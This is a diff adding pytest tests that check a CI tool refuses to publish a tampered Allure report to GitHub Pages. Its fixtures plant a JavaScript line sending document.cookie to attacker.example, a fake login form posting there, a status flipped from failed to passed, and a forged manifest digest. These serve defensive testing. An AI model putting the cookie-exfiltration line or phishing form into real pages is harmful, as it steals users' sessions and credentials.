@@ -11,8 +11,10 @@ import json
 import uuid
 from pathlib import Path
 
+import pytest
+
 from helpers import run_mode
-from test_upload import phase
+from test_upload import needs_allure, phase
 
 
 def extra_result(results: Path, into: Path | None = None) -> Path:
@@ -76,3 +78,76 @@ def test_verify_refuses_a_publication_with_an_extra_file_even_in_a_subdirectory(
     assert (run.exit_code, run.outputs["error-code"]) == (3, "io.extra_file"), run.summary
     assert run.failure()["field"] == f"later/{forged.name}"
     assert not (tmp_path / "state" / "publication.intoto.json").exists()  # nothing attested
+
+
+# --- pages: the report artifact is bound file by file ---------------------------------------------------------
+
+
+@pytest.fixture
+def report_publication(tmp_path: Path) -> tuple[Path, dict[str, str], dict[str, str]]:
+    from test_pages import publication
+
+    return publication(tmp_path)
+
+
+@needs_allure
+@pytest.mark.parametrize("tamper", ["script", "case-status", "added-page", "history", "removed"])
+def test_pages_publishes_no_report_file_it_cannot_bind(tmp_path: Path, tamper: str,
+                                                       report_publication: tuple[Path, dict[str, str],
+                                                                                 dict[str, str]]) -> None:
+    """A worker that replaced the report artifact (same name, same receipt, same allure-results and the same
+    summary.json counts) changes what the site serves: a script, a case's status in the report's data, an
+    added page, the trend history. Each is refused before the Pages checkout is touched."""
+    from test_pages import pages
+
+    published, options, env = report_publication
+    site_dir = tmp_path / "site"
+    site_dir.mkdir()
+    report = published / "allure-report"
+    for folder in (published, *[p for p in published.rglob("*") if p.is_dir()]):
+        folder.chmod(0o700)
+    if tamper == "script":
+        target = next(p for p in sorted(report.rglob("*.js")))
+        target.write_text(target.read_text() + "\nfetch('https://attacker.example/'+document.cookie);\n")
+        code, field = "pages.publication", str(target.relative_to(published))
+    elif tamper == "case-status":
+        target = next(p for p in sorted(report.rglob("*")) if p.is_file() and b'"failed"' in p.read_bytes()
+                      and p.name != "summary.json")
+        target.write_bytes(target.read_bytes().replace(b'"failed"', b'"passed"'))
+        code, field = "pages.publication", str(target.relative_to(published))
+    elif tamper == "added-page":
+        (report / "login.html").write_text("<form action='https://attacker.example/'>")
+        code, field = "io.extra_file", "allure-report/login.html"
+    elif tamper == "history":
+        (published / "history.jsonl").write_text("{}\n")
+        code, field = "pages.publication", "history.jsonl"
+    else:
+        (report / "index.html").unlink()
+        code, field = "pages.publication", "allure-report/index.html"
+    run = pages(tmp_path, published, options, env, site_dir)
+    assert (run.exit_code, run.outputs["error-code"]) == (3, code), run.summary
+    assert run.failure()["field"] == field
+    assert list(site_dir.iterdir()) == []
+
+
+@needs_allure
+def test_pages_refuses_a_manifest_that_is_not_the_one_upload_built(
+        tmp_path: Path, report_publication: tuple[Path, dict[str, str], dict[str, str]]) -> None:
+    """The attacker rewrites the manifest to match its changed report: its digest is not the travelled one."""
+    from test_pages import pages
+
+    published, options, env = report_publication
+    site_dir = tmp_path / "site"
+    site_dir.mkdir()
+    published.chmod(0o700)
+    manifest = published / "testops-evidence-tree.json"
+    document = json.loads(manifest.read_text())
+    document["files"]["allure-report/login.html"] = "0" * 64
+    manifest.write_text(json.dumps(document))
+    run = pages(tmp_path, published, options, env, site_dir)
+    assert (run.exit_code, run.outputs["error-code"]) == (3, "pages.publication"), run.summary
+    assert run.failure()["field"] == "testops-evidence-tree.json"
+    # Inside Actions the digest is required: without it nothing binds the report.
+    unbound = pages(tmp_path, published, {**options, "report-tree-sha256": ""}, env, site_dir)
+    assert (unbound.exit_code, unbound.outputs["error-code"]) == (2, "input.report-tree-sha256"), unbound.summary
+    assert list(site_dir.iterdir()) == []
